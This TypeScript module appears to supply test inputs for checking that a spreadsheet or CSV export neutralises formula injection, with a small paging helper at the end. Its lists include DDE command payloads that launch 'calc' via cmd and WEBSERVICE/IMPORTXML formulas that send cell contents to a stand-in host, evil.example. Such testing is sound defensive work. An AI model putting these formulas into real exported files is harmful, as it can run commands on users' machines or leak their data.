import { formulas, headerBreaks, markup, realTexts } from './corpora'

/** Characters that programs strip, or may strip, from the start of a formula. */
const before = ['', ' ', '\u00a0', '\u200b', "'", '"', '\ufeff', '\n', ' \t ']

/** Texts that spreadsheet programs may interpret as formulas, with and without a prefix. */
export const formulaTexts: readonly string[] = [
  ...formulas.flatMap((formula) => before.map((sign) => sign + formula)),
  ...['＝1+1', '＋1', '－1', '＠SUM(A1)', '\u22121+1'],
  ...["=cmd|'/C calc'!A0", '=WEBSERVICE("https://evil.example/"&A1)', '=IMPORTXML("https://evil.example","//a")'],
  ...["-2+3+cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")'],
]

/** Names with a meaning in JavaScript or Excel, and texts that look already escaped. */
const names = ['constructor', '__proto__', 'toString', '_x0041_', '_x0041_x0042_', '_x005F_', "'Tis", "''"]
const breaks = [
  '{=1+1}',
  'one\ntwo',
  'one\r\ntwo',
  'one\rtwo',
  'a,b;c\td',
  'a;=1+1;b',
  'a\t=1+1',
  ' around ',
  '"quoted"',
  'a\n\n\nb',
]

/** Texts for the cells of exports, without characters that cannot be stored. */
export const exportTexts: readonly string[] = [
  ...[...formulaTexts, ...markup, ...headerBreaks, ...realTexts, ...names, ...breaks].map((text) =>
    text.replaceAll('\0', ''),
  ),
]

/** Yields rows in pages, as they are read from a database. */
export async function* inPages(rows: readonly string[][], size = 50): AsyncGenerator<string[][]> {
  for (let start = 0; start < rows.length; start += size) yield rows.slice(start, start + size)
}
